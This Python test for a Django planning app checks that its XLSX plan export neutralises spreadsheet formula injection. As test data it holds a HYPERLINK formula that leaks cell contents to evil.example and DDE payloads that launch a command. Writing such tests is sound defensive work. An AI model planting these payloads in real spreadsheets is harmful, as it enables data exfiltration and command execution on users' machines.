"""Formula injection through the plan export: hostile text read back from the real XLSX is inert; numbers stay."""

from __future__ import annotations

import io
from typing import Any

from django.urls import reverse
from openpyxl import load_workbook

from indeks.assessment.models import Answer, AnswerStatus
from indeks.planning.models import Plan
from tests.platform.conftest import World

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
DDE = "=cmd|' /C calc'!A0"


def test_plan_xlsx_has_no_live_formula(world: World) -> None:
    Answer.objects.bulk_create(
        Answer(participation=world.a.participation, indicator=n, level=2, status=AnswerStatus.ACCEPTED)
        for n in range(1, 48)
    )
    world.a.units["kominfo"].name = "@SUM(1+1)*cmd|' /C calc'!A0"
    world.a.units["kominfo"].save()
    client = world.a.client("coordinator")
    pk = world.a.participation.pk
    page: Any = client.post(
        reverse("planning:planner", args=(pk,)),
        {"target_kind": "predicate", "predicate": "Baik", "baseline": "current", "max_step": "1"},
    )
    save = {**page.context["save"], "name": HYPERLINK, "target_label": DDE}
    assert client.post(reverse("planning:save", args=(pk,)), save).status_code == 302
    plan = Plan.objects.get()
    assert plan.name == HYPERLINK  # stored as typed; only the export neutralises
    client.post(reverse("planning:track", args=(pk, plan.pk)))
    response = client.get(reverse("planning:export_xlsx", args=(pk, plan.pk)))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text and text[0] in "=+-@"]
    assert sheet["C1"].value == "'" + HYPERLINK
    assert sheet["B2"].value == "'" + DDE
    assert isinstance(sheet["C2"].value, float)  # the target is still a number
    owners = {row[7] for row in sheet.iter_rows(min_row=5, values_only=True)}
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in owners
    costs = [row[4] for row in sheet.iter_rows(min_row=5, values_only=True)]
    assert costs
    assert all(isinstance(cost, int | float) for cost in costs)
